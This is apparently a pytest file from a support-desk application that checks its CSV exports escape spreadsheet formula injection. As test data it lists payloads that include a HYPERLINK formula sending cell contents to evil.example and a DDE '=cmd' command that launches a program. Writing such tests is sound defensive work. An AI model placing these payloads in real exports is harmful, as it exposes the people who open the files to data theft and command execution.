"""Attacks on those who open what we export in a spreadsheet (ATTACK-A34)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from supportdesk.kernel.files.csv_lines import csv_lines
from tests.desk.conftest import NOW, SignIn, sign_in
from tests.factories import make_staff
from tests.terms.world import World
from vendors.models import Vendor

__all__ = ["sign_in"]

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
)


def cells(lines: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(lines.decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_attack_A34_no_cell_is_a_formula_not_even_in_the_head(text: str) -> None:
    behind = "'" + text.replace("\0", "")

    assert cells(csv_lines([(text, "x"), (1, text)])) == [[behind, "x"], ["1", behind]]


@pytest.mark.parametrize("text", ['a",=1', "a;=1", "a\r\n=1"])
def test_attack_A34_no_text_breaks_out_of_its_cell(text: str) -> None:
    assert csv_lines([(text,)]) == b'"' + text.replace('"', '""').encode() + b'"\r\n'


def test_attack_A34_a_customer_named_as_a_formula_is_a_name_in_the_report(vendor: Vendor, sign_in: SignIn) -> None:
    world = World("imagicle")
    contact = world.customer(region="europe", plan="gold", name=FORMULAS[-1])
    world.file(contact, 2, NOW - timedelta(minutes=5))
    admin = sign_in(make_staff("Ada", is_admin=True))

    for asked in ({}, {"of": "figures"}):
        answer = admin.get("/console/promises.csv", asked).getvalue()
        assert b"\"'=cmd|' /C calc'!A0\"" in answer
        assert b'"=' not in answer


def test_what_is_no_formula_stays_as_it_is() -> None:
    assert cells(csv_lines([("Müller & Söhne", None, 12, "a=b")])) == [["Müller & Söhne", "", "12", "a=b"]]
